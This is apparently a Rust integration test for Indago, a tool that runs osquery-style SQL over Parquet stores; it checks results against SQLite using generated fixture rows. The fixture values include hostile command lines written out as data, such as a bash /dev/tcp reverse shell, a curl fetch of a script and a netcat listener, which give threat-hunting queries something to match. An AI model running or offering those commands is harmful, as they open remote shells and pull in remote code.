//! osquery's queries over a store of Parquet files from another program: all of osquery's Linux tables, compared with
//! SQLite's rows.
//!
//! `fixtures/osquery_columns.tsv` has the tables, and the `*.sql` files in `fixtures/osquery_store` the queries, each after `--
//! query: NAME`. The rows are generated from the texts and numbers that the queries compare with.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;

use arrow_array::cast::AsArray as _;
use arrow_array::types::{Float64Type, Int64Type, UInt64Type};
use arrow_array::{
    Array as _, ArrayRef, DictionaryArray, Float64Array, Int32Array, Int64Array, LargeStringArray, NullArray,
    RecordBatch, StringArray, UInt64Array,
};
use arrow_schema::DataType;
use datafusion::arrow::compute::kernels::regexp::regexp_match;
use datafusion::parquet::arrow::ArrowWriter;
use indago::store::Store;
use indago_engine::{Absent, Code, Engine, Outcome};
use indago_table::{Sys, TableRef};
use indago_tables_registry::{ELSEWHERE, Environments, all};
use rusqlite::functions::{Context, FunctionFlags};
use rusqlite::types::{Value, ValueRef};

use crate::support::{rows, texts};

/// Columns that queries join and filter by: in every table, columns with these names have these values.
const VALUES: &[(&str, &[&str])] = &[
    ("pid", &["1", "2", "100", "101", "102", "300", "4242"]),
    ("parent", &["0", "1", "2", "100", "101"]),
    ("partner_pid", &["1", "100", "-1"]),
    ("creator_pid", &["100", "5"]),
    ("uid", &["0", "1000", "33", "65534", "501"]),
    ("euid", &["0", "1000", "501"]),
    ("auid", &["1000", "4294967295", "0"]),
    ("gid", &["0", "27", "1000", "33"]),
    ("path", PATHS),
    ("target_path", PATHS),
    ("fragment_path", PATHS),
    (
        "name",
        &["bash", "sshd", "systemd", "kworker/0:1", "curl", "nc", "a_b", "BASH", "O'Brien", "(sd-pam)", ".hidden"],
    ),
    ("username", &["root", "ann", "www-data", "nobody"]),
    ("shell", &["/bin/bash", "/usr/sbin/nologin", "/bin/false", ""]),
    (
        "cmdline",
        &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sshd: ann [priv]", "curl http://x/a.sh", "nc -l 4444", "", "it's"],
    ),
    ("cgroup_path", &["/system.slice/ssh.service", "/system.slice/docker-0123456789abcdef.scope", "/init.scope", "/"]),
    ("directory", &["/etc", "/tmp", "/usr/bin", "/root", "/home/ann", "/home/ann/.ssh"]),
    ("filename", &["bash", "passwd", "SHADOW", "x.sh", "lib.so.1"]),
    ("mode", &["0644", "0755", "4755", "0777", "0600"]),
    ("remote_address", &["8.8.8.8", "10.0.0.1", "127.0.0.1", "::1", "", "192.168.1.4"]),
    ("port", &["22", "80", "443", "8080", "0"]),
    ("remote_port", &["443", "80", "53", "4444", "0", "51000"]),
    ("protocol", &["6", "17", "0"]),
    ("id", &["c0ffee", "0123456789abcdef", "img1"]),
    ("interface", &["eth0", "lo", "docker0"]),
    ("key", &["LD_PRELOAD", "PATH", "HISTFILE", "app"]),
    ("start_time", MOMENTS),
    ("mtime", MOMENTS),
    ("ctime", MOMENTS),
    ("time", MOMENTS),
    ("not_valid_after", &["1893456000", "0", ""]),
];
const PATHS: &[&str] = &[
    "/usr/bin/bash",
    "/usr/sbin/sshd",
    "/tmp/.x/evil",
    "/home/ann/.cache/run.sh",
    "",
    "/etc/passwd",
    "/home/ann/.ssh/id_rsa",
    "/usr/bin/sudo",
    "/dev/shm/m",
];
const MOMENTS: &[&str] = &["1700000000", "1700000600", "1650000000", "1767225600", "0"];
/// Values of columns that no query mentions.
const OTHERWISE: (&[&str], &[&str]) =
    (&["abc", "Zed", "0", "1", "10", "x y", "1.5", "root"], &["0", "1", "2", "3", "100", "1024", "123456789"]);

struct Column {
    name: String,
    kind: String,
    /// Whether osquery's column ignores case.
    ignores_case: bool,
    cells: Vec<Value>,
}

struct Table {
    name: String,
    columns: Vec<Column>,
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/osquery_store")
}

/// The queries of the fixtures: name, and text with its comments.
fn queries() -> Vec<(String, String)> {
    let mut files: Vec<PathBuf> =
        fs::read_dir(fixtures()).expect("the folder").map(|entry| entry.expect("an entry").path()).collect();
    files.sort();
    let mut queries: Vec<(String, String)> = Vec::new();
    for file in files.iter().filter(|file| file.extension().is_some_and(|extension| extension == "sql")) {
        for line in fs::read_to_string(file).expect("a file of queries").lines() {
            if let Some(name) = line.strip_prefix("-- query: ") {
                queries.push((name.to_owned(), String::new()));
            } else if let Some((_, sql)) = queries.last_mut() {
                sql.push_str(line);
                sql.push('\n');
            }
        }
    }
    queries
}

/// The literals that queries compare a column with, by column name.
fn literals(queries: &[(String, String)]) -> BTreeMap<String, BTreeSet<String>> {
    let mut found: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for (_, sql) in queries {
        // The last name in the text, which the next literals belong to. Words of a comparison do not count as names.
        let mut column = String::new();
        let mut rest = sql.as_str();
        while let Some(character) = rest.chars().next() {
            let length = if character.is_alphabetic() || character == '_' {
                let length = rest.find(|c: char| !c.is_alphanumeric() && c != '_').unwrap_or(rest.len());
                let word = rest[..length].to_lowercase();
                if !matches!(word.as_str(), "not" | "in" | "like" | "and" | "or" | "is" | "glob" | "between") {
                    column = word;
                }
                length
            } else if matches!(character, '\'' | '"') {
                let length = rest[1..].find(character).map_or(rest.len(), |end| end + 2);
                let text = rest[1..length.max(2) - 1].replace("%%", "a/b").replace('%', "x").replace('\\', "");
                found.entry(column.clone()).or_default().insert(text);
                length
            } else if character.is_ascii_digit() {
                let length = rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len());
                found.entry(column.clone()).or_default().insert(rest[..length].to_owned());
                length
            } else {
                character.len_utf8()
            };
            rest = &rest[length..];
        }
    }
    found
}

/// Every Linux table of osquery, with some rows.
fn tables(queries: &[(String, String)]) -> Vec<Table> {
    let literals = literals(queries);
    let text = fs::read_to_string(fixtures().join("../osquery_columns.tsv")).expect("the columns");
    let mut tables: Vec<Table> = Vec::new();
    // Pseudo-random numbers that are always the same.
    let mut state = 42_u64;
    let mut draw = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below.max(1)
    };
    for line in text.lines() {
        let [table, name, kind, options, ..] = line.split('\t').collect::<Vec<_>>()[..] else { panic!("{line}") };
        if tables.last().is_none_or(|last| last.name != table) {
            tables.push(Table { name: table.to_owned(), columns: Vec::new() });
        }
        let own = VALUES.iter().find(|(column, _)| *column == name).map_or(&[][..], |(_, values)| values);
        let sought: Vec<&str> = literals.get(name).into_iter().flatten().map(String::as_str).collect();
        let is_text = kind == "TEXT";
        let cells = (0..7).map(|row| {
            let pool: &[&str] = match draw(10) {
                0 => return Value::Null,
                1 if is_text => return Value::Text(String::new()),
                _ if name == "pid" && table == "processes" => &[["1", "2", "100", "101", "102", "300", "4242"][row]],
                _ if name == "uid" && table == "users" => &[["0", "1000", "33", "65534", "501", "2000", "3000"][row]],
                2..=5 if !sought.is_empty() => &sought,
                _ if !own.is_empty() => own,
                _ if is_text => OTHERWISE.0,
                _ => OTHERWISE.1,
            };
            let text = pool[draw(pool.len())];
            match kind {
                "TEXT" => Value::Text(text.to_owned()),
                "DOUBLE" => Value::Real(text.parse::<f64>().unwrap_or(2.0) + 0.25),
                "INTEGER" => Value::Integer(text.parse::<i32>().unwrap_or(7).into()),
                _ => Value::Integer(text.parse::<i64>().unwrap_or(7)),
            }
        });
        let column = Column {
            name: name.to_owned(),
            kind: kind.to_owned(),
            ignores_case: options.split(',').any(|option| option == "collate=nocase"),
            cells: cells.collect(),
        };
        tables.last_mut().expect("there is one").columns.push(column);
    }
    tables
}

/// The column with the types that other programs write: small integers, unsigned integers, plain strings.
fn array(column: &Column) -> ArrayRef {
    let integers = || column.cells.iter().map(|cell| if let Value::Integer(n) = cell { Some(*n) } else { None });
    match column.kind.as_str() {
        "DOUBLE" => {
            let reals = column.cells.iter().map(|cell| if let Value::Real(n) = cell { Some(*n) } else { None });
            Arc::new(reals.collect::<Float64Array>())
        }
        "INTEGER" => {
            Arc::new(integers().map(|n| n.map(|n| i32::try_from(n).expect("drawn so"))).collect::<Int32Array>())
        }
        "BIGINT" => Arc::new(integers().collect::<Int64Array>()),
        "UNSIGNED_BIGINT" => Arc::new(integers().map(|n| n.map(i64::unsigned_abs)).collect::<UInt64Array>()),
        _ => {
            let texts = column.cells.iter().map(|cell| if let Value::Text(text) = cell { Some(text) } else { None });
            Arc::new(texts.collect::<StringArray>())
        }
    }
}

fn write(folder: &Path, table: &str, columns: Vec<(&str, ArrayRef)>) {
    let batch = RecordBatch::try_from_iter(columns).expect("columns of equal length");
    let file = fs::File::create(folder.join(format!("{table}.parquet"))).expect("a file");
    let mut writer = ArrowWriter::try_new(file, batch.schema(), None).expect("a writer");
    writer.write(&batch).expect("written");
    writer.close().expect("complete");
}

fn stored(tables: &[Table], folder: &Path) {
    for table in tables {
        write(folder, &table.name, table.columns.iter().map(|column| (column.name.as_str(), array(column))).collect());
    }
}

fn known() -> Vec<TableRef> {
    all(&Environments::of(&Sys::at("/nonexistent")))
}

async fn engine(folder: &Path) -> Engine {
    let store = Store::open(folder, &known()).expect("the store opens");
    Engine::builder().tables(store.into_tables()).absent(absent).build().await.expect("the engine builds")
}

/// SQLite with the same contents, and the functions that osquery adds.
fn sqlite(tables: &[Table]) -> rusqlite::Connection {
    let database = rusqlite::Connection::open_in_memory().expect("SQLite opens");
    for table in tables {
        let collation = |column: &Column| if column.ignores_case { " COLLATE NOCASE" } else { "" };
        let declared = table.columns.iter().map(|c| format!("\"{}\" {}{}", c.name, c.kind, collation(c)));
        let declared: Vec<String> = declared.collect();
        database.execute(&format!("CREATE TABLE \"{}\" ({})", table.name, declared.join(", ")), []).expect("created");
        let marks = vec!["?"; table.columns.len()].join(", ");
        let mut insert = database.prepare(&format!("INSERT INTO \"{}\" VALUES ({marks})", table.name)).expect("insert");
        for row in 0..table.columns[0].cells.len() {
            let cells = table.columns.iter().map(|column| &column.cells[row]);
            insert.execute(rusqlite::params_from_iter(cells)).expect("a row");
        }
    }
    for (view, table) in [("yara", "yara_file"), ("hosts", "etc_hosts"), ("syslog", "syslog_events")] {
        database.execute(&format!("CREATE VIEW {view} AS SELECT * FROM {table}"), []).expect("a view");
    }
    let add = |name: &str, arity: i32, function: fn(&[Option<String>]) -> Option<Value>| {
        let run = move |context: &Context<'_>| {
            let text = |at: usize| match context.get_raw(at) {
                ValueRef::Null => None,
                ValueRef::Integer(number) => Some(number.to_string()),
                ValueRef::Real(number) => Some(number.to_string()),
                ValueRef::Text(text) | ValueRef::Blob(text) => Some(String::from_utf8_lossy(text).into_owned()),
            };
            let arguments: Vec<Option<String>> = (0..context.len()).map(text).collect();
            Ok(function(&arguments).unwrap_or(Value::Null))
        };
        database.create_scalar_function(name, arity, FunctionFlags::SQLITE_UTF8, run).expect("a function");
    };
    add("concat", -1, |texts| Some(Value::Text(texts.iter().flatten().map(String::as_str).collect())));
    add("regex_match", 3, |arguments| {
        let [Some(text), Some(pattern), Some(group)] = arguments else { return None };
        capture(text, pattern, group.parse().ok()?).map(Value::Text)
    });
    add("regexp", 2, |arguments| {
        let [Some(pattern), Some(text)] = arguments else { return None };
        Some(Value::Integer(capture(text, pattern, 0).is_some().into()))
    });
    add("split", 3, |arguments| {
        let [Some(text), Some(marks), Some(at)] = arguments else { return None };
        let mut pieces = text.split(|c| marks.contains(c)).filter(|piece| !piece.is_empty());
        Some(Value::Text(pieces.nth(at.parse().ok()?)?.trim().to_owned()))
    });
    add("inet_aton", 1, |arguments| {
        let address: std::net::Ipv4Addr = arguments[0].as_ref()?.parse().ok()?;
        Some(Value::Integer(u32::from(address).into()))
    });
    database
}

/// A group of the first match, from Arrow's own regular expressions; 0 is the entire match.
fn capture(text: &str, pattern: &str, group: usize) -> Option<String> {
    let text = StringArray::from(vec![text]);
    let pattern = StringArray::from(vec![format!("({pattern})")]);
    let found = regexp_match(&text, &pattern, None).expect("a regular expression");
    let found = found.as_list::<i32>();
    if found.is_null(0) {
        return None;
    }
    let groups = found.value(0);
    let groups = groups.as_string::<i32>();
    (group < groups.len()).then(|| if groups.is_null(group) { String::new() } else { groups.value(group).to_owned() })
}

/// A row as text. Numbers are compared by value, because an integer in a column with reals is a real here.
fn shown(value: &Value) -> String {
    match value {
        Value::Null => "NULL".to_owned(),
        Value::Integer(number) => format!("n{number}"),
        Value::Real(number) if number.fract() == 0.0 && number.abs() < 1e15 => format!("n{}", *number as i64),
        Value::Real(number) => format!("n{number:.9}"),
        Value::Text(text) => format!("'{text}'"),
        Value::Blob(bytes) => format!("{bytes:?}"),
    }
}

fn from_sqlite(database: &rusqlite::Connection, sql: &str) -> Result<(Vec<String>, Vec<Vec<String>>), String> {
    let mut statement = database.prepare(sql).map_err(|error| error.to_string())?;
    let names: Vec<String> = statement.column_names().map(str::to_owned).collect();
    let width = names.len();
    let row = |row: &rusqlite::Row<'_>| (0..width).map(|at| row.get::<_, Value>(at).map(|v| shown(&v))).collect();
    let rows = statement.query_map([], row).map_err(|error| error.to_string())?;
    Ok((names, rows.collect::<Result<_, _>>().map_err(|error| error.to_string())?))
}

async fn from_engine(engine: &Engine, sql: &str) -> Result<(Vec<String>, Vec<Vec<String>>), String> {
    let statements = engine.split(sql).map_err(|error| error.to_string())?;
    let [statement] = &statements[..] else { return Err(format!("{} statements", statements.len())) };
    let query = engine.query(&statement.sql).await.map_err(|error| error.to_string())?;
    // The second column of a name is `name:1`, so that JSON rows have both.
    let written = |name: &str| match name.rsplit_once(':') {
        Some((written, number)) if number.parse::<usize>().is_ok() => written.to_owned(),
        _ => name.to_owned(),
    };
    let names = query.schema().fields().iter().map(|field| written(field.name())).collect();
    let mut rows = Vec::new();
    for batch in query.collect().await.map_err(|error| error.to_string())? {
        for row in 0..batch.num_rows() {
            rows.push(batch.columns().iter().map(|column| shown(&cell(column, row))).collect());
        }
    }
    let warnings = query.warnings();
    if warnings.is_empty() { Ok((names, rows)) } else { Err(format!("{warnings:?}")) }
}

fn cell(column: &ArrayRef, row: usize) -> Value {
    if column.is_null(row) {
        return Value::Null;
    }
    match column.data_type() {
        DataType::Int64 => Value::Integer(column.as_primitive::<Int64Type>().value(row)),
        // Results of window functions that count.
        DataType::UInt64 => Value::Integer(column.as_primitive::<UInt64Type>().value(row).cast_signed()),
        DataType::Float64 => Value::Real(column.as_primitive::<Float64Type>().value(row)),
        DataType::Utf8View => Value::Text(column.as_string_view().value(row).to_owned()),
        DataType::Utf8 => Value::Text(column.as_string::<i32>().value(row).to_owned()),
        DataType::Boolean => Value::Text(column.as_boolean().value(row).to_string()),
        other => panic!("a result of type {other}"),
    }
}

/// Whether rows are equal, apart from times: the clock may advance between two queries.
fn alike(left: &[Vec<String>], right: &[Vec<String>], asks_clock: bool) -> bool {
    let number = |text: &str| text.strip_prefix('n').and_then(|number| number.parse::<f64>().ok());
    let same = |left: &String, right: &String| {
        left == right
            || asks_clock && number(left).zip(number(right)).is_some_and(|(left, right)| (left - right).abs() < 120.0)
    };
    left.len() == right.len()
        && left.iter().zip(right).all(|(left, right)| {
            left.len() == right.len() && left.iter().zip(right).all(|(left, right)| same(left, right))
        })
}

/// Whether rows are rows of the query without its GROUP BY. A group's bare columns may come from any of its rows, but
/// all from the same.
fn are_rows_of_groups(database: &rusqlite::Connection, sql: &str, given: &[Vec<String>], asks_clock: bool) -> bool {
    let upper = sql.to_uppercase();
    let is_aggregated = ["COUNT(", "SUM(", "GROUP_CONCAT(", "AVG(", "TOTAL("].iter().any(|name| upper.contains(name));
    let Some(at) = upper.rfind("GROUP BY").filter(|_| !is_aggregated) else { return false };
    let (_, all) = from_sqlite(database, &sql[..at]).expect("it runs without its groups");
    given
        .iter()
        .all(|row| all.iter().any(|other| alike(std::slice::from_ref(row), std::slice::from_ref(other), asks_clock)))
}

#[tokio::test(flavor = "multi_thread")]
async fn osquery_queries_give_sqlites_rows() {
    let queries = queries();
    assert!(queries.len() > 250, "{} queries", queries.len());
    let tables = tables(&queries);
    assert_eq!(tables.len(), 156);
    let folder = tempfile::tempdir().expect("a folder");
    stored(&tables, folder.path());
    let engine = engine(folder.path()).await;
    let database = sqlite(&tables);
    let mut wrong = Vec::new();
    let mut with_rows = 0;
    for (name, sql) in &queries {
        let (names, mut expected) =
            from_sqlite(&database, sql).unwrap_or_else(|error| panic!("{name}: SQLite: {error}"));
        let (own_names, mut given) = match from_engine(&engine, sql).await {
            Ok(answer) => answer,
            Err(error) => {
                wrong.push(format!("{name}: {error}\n{sql}"));
                continue;
            }
        };
        let upper = sql.to_uppercase();
        let is_sorted = upper.rfind("ORDER BY").is_some_and(|at| !upper[at..].contains(')'));
        if !is_sorted {
            expected.sort();
            given.sort();
        }
        with_rows += usize::from(!expected.is_empty());
        let asks_clock = sql.contains("'now'");
        let is_right = alike(&expected, &given, asks_clock)
            || expected.len() == given.len() && are_rows_of_groups(&database, sql, &given, asks_clock);
        if names != own_names || !is_right {
            wrong.push(format!("{name}: {sql}  SQLite: {names:?} {expected:?}\n  here:   {own_names:?} {given:?}"));
        }
    }
    println!("{} queries, {with_rows} with rows, {} wrong", queries.len(), wrong.len());
    assert!(with_rows * 2 > queries.len(), "only {with_rows} of {} queries have rows to compare", queries.len());
    assert!(wrong.is_empty(), "{} of {} queries differ:\n{}", wrong.len(), queries.len(), wrong.join("\n"));
}

/// End to end: the program, a store, a query with comments on standard input, JSON.
#[test]
fn a_query_on_standard_input_runs_over_a_store() {
    let queries = queries();
    let tables = tables(&queries);
    let folder = tempfile::tempdir().expect("a folder");
    stored(&tables, folder.path());
    let database = sqlite(&tables);
    for (name, sql) in queries.iter().filter(|(_, sql)| sql.contains("/*") || sql.contains("--")) {
        let mut program = crate::cli::indago();
        program.args(["query", "--store"]).arg(folder.path()).args(["-f", "-"]);
        let mut running = program.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("it starts");
        running.stdin.take().expect("piped").write_all(sql.as_bytes()).expect("it reads");
        let output = running.wait_with_output().expect("it ends");
        assert!(output.status.success(), "{name}");
        let given: Vec<serde_json::Value> = serde_json::from_slice(&output.stdout).expect("a JSON array");
        assert_eq!(given.len(), from_sqlite(&database, sql).expect("SQLite answers").1.len(), "{name}");
    }
}

fn absent(name: &str) -> Option<Absent> {
    let (_, systems) = ELSEWHERE.iter().find(|(known, _)| *known == name)?;
    Some(Absent::OnlyOn(systems))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_query_for_another_platform_says_so() {
    let engine = Engine::builder().tables(known()).absent(absent).build().await.expect("the engine builds");
    for (sql, expected, help) in [
        (
            "SELECT * FROM registry WHERE key = 'x'",
            "osquery has a table `registry` on Windows only, Indago does not",
            "search the tables that exist with `indago tables WORD`",
        ),
        (
            "SELECT p.name FROM processes p JOIN Launchd l ON l.path = p.path",
            "osquery has a table `launchd` on macOS only, Indago does not",
            "search the tables that exist with `indago tables WORD`",
        ),
    ] {
        let error = engine.query(sql).await.expect_err(sql);
        assert_eq!((error.code(), error.to_string().as_str()), (Code::UnknownTable, expected));
        assert_eq!(error.help(), Some(help));
    }
}

/// A file with any types and without our metadata: its columns are the table's, and `*` is all of them.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_from_elsewhere_has_the_columns_that_it_has() {
    let folder = tempfile::tempdir().expect("a folder");
    let shells = DictionaryArray::<arrow_array::types::Int32Type>::from_iter([Some("/bin/sh"), None]);
    write(
        folder.path(),
        "users",
        vec![
            ("uid", Arc::new(LargeStringArray::from(vec!["0", "not a number"])) as ArrayRef),
            ("shell", Arc::new(shells)),
            ("pid_with_namespace", Arc::new(Int32Array::from(vec![0, 1]))),
            ("description", Arc::new(NullArray::new(2))),
        ],
    );
    write(folder.path(), "odd", vec![("n", Arc::new(UInt64Array::from(vec![1, u64::MAX])) as ArrayRef)]);
    let engine = engine(folder.path()).await;
    let query = engine.query("SELECT * FROM users WHERE uid = 0 AND shell LIKE '/BIN/%'").await.expect("it plans");
    let names: Vec<String> = query.schema().fields().iter().map(|field| field.name().clone()).collect();
    assert_eq!(names, ["uid", "shell", "pid_with_namespace", "description"]);
    assert_eq!(texts(&query.collect().await.expect("it runs")), [["0", "/bin/sh", "0", "NULL"]]);
    assert_eq!(rows(&engine, "SELECT count(*), count(uid) FROM users").await, [["2", "1"]]);
    // A number that is not a valid integer is reported, and drops no row.
    assert_eq!(rows(&engine, "SELECT n FROM odd").await, [["1"], ["NULL"]]);
}

/// The meaning of a file's value in a column of ours, or NULL with a warning.
#[tokio::test(flavor = "multi_thread")]
async fn values_that_do_not_fit_are_null_and_counted() {
    let folder = tempfile::tempdir().expect("a folder");
    let seconds: ArrayRef = Arc::new(Int64Array::from(vec![Some(1_700_000_000), None, Some(i64::MAX)]));
    let reals: ArrayRef = Arc::new(Float64Array::from(vec![Some(2.0), Some(2.5), Some(1e300)]));
    let bytes: ArrayRef = Arc::new(arrow_array::BinaryArray::from(vec![Some(b"ok".as_slice()), Some(b"\xff"), None]));
    write(folder.path(), "processes", vec![("started_at", seconds), ("pid", reals), ("name", bytes)]);
    let times: ArrayRef = Arc::new(StringArray::from(vec![Some("2023-11-14T22:13:20Z"), Some("soon"), Some("")]));
    let halves: ArrayRef = Arc::new(Float64Array::from(vec![1.5, -1.5, f64::NAN]));
    write(folder.path(), "containers", vec![("created_at", times), ("last_started", halves)]);
    let engine = engine(folder.path()).await;
    for (sql, expected, lost) in [
        ("SELECT started_at FROM processes", ["2023-11-14T22:13:20Z", "NULL", "NULL"], &[("started_at", 1)][..]),
        ("SELECT pid FROM processes", ["2", "NULL", "NULL"], &[("pid", 2)]),
        ("SELECT name FROM processes", ["ok", "NULL", "NULL"], &[("name", 1)]),
        ("SELECT created_at FROM containers", ["2023-11-14T22:13:20Z", "NULL", "NULL"], &[("created_at", 1)]),
        (
            "SELECT last_started FROM containers",
            ["1970-01-01T00:00:01.500Z", "1969-12-31T23:59:58.500Z", "NULL"],
            &[("last_started", 1)],
        ),
        (
            "SELECT count(pid), count(started_at) FROM processes LIMIT 1",
            ["1", "1", ""],
            &[("started_at", 1), ("pid", 2)],
        ),
    ] {
        let query = engine.query(sql).await.expect("it plans");
        let cells = texts(&query.collect().await.expect("it runs")).concat();
        assert_eq!(cells, expected.into_iter().filter(|cell| !cell.is_empty()).collect::<Vec<_>>(), "{sql}");
        let mut told: Vec<(String, u64)> = query
            .warnings()
            .iter()
            .inspect(|warning| assert_eq!(warning.outcome, Outcome::Malformed))
            .map(|warning| (warning.origin.rsplit(", ").next().unwrap_or_default().to_owned(), warning.count))
            .collect();
        told.sort_by_key(|(_, count)| *count);
        assert_eq!(told, lost.iter().map(|(name, count)| ((*name).to_owned(), *count)).collect::<Vec<_>>(), "{sql}");
    }
}
